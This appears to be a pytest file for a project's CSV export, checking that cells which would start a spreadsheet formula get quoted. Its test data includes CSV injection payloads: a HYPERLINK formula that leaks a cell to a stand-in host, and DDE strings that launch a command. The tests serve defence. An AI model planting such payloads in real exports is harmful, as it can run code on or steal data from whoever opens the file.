"""Cells of windowdesk's CSV files: a spreadsheet reads text as text, never as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from windowdesk.spreadsheet import csv_writer, spreadsheet_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x.invalid/?"&A1,"x")', '\'=HYPERLINK("http://x.invalid/?"&A1,"x")'),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+2", "'  =1+2"),  # an import that trims spaces would find a formula
        ("\u3000=1", "'\u3000=1"),  # an ideographic space, as a Chinese input method types it
        ("＝1+2", "'＝1+2"),
        ("＋1", "'＋1"),
        ("－1－1", "'－1－1"),
        ("＠x", "'＠x"),  # full-width forms
        ("-1e3", "'-1e3"),
        ("-1+", "'-1+"),
        # Text that is only a plain number, or the dash of "no figure": a value, kept.
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-3", "-3"),
        ("95.0%", "95.0%"),
        ("-", "-"),
        # Ordinary text, as it was.
        ("王芳", "王芳"),
        ("CH-20261125-01-0007", "CH-20261125-01-0007"),
        ("a=b", "a=b"),
        ("", ""),
        # Numbers the program writes are numbers.
        (-1250, -1250),
        (-12.5, -12.5),
        (Decimal("-0.50"), Decimal("-0.50")),
        (None, ""),
        (True, "True"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted_and_numbers_stay_numbers(value, cell) -> None:
    assert spreadsheet_cell(value) == cell


def test_the_writer_neutralises_every_cell_and_keeps_the_csv_readable() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["name", "amount"])
    writer.writerows([["=cmd|' /C calc'!A0", -1250], ['say "hi", then', 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"],
        ["'=cmd|' /C calc'!A0", "-1250"],
        ['say "hi", then', "3"],
    ]
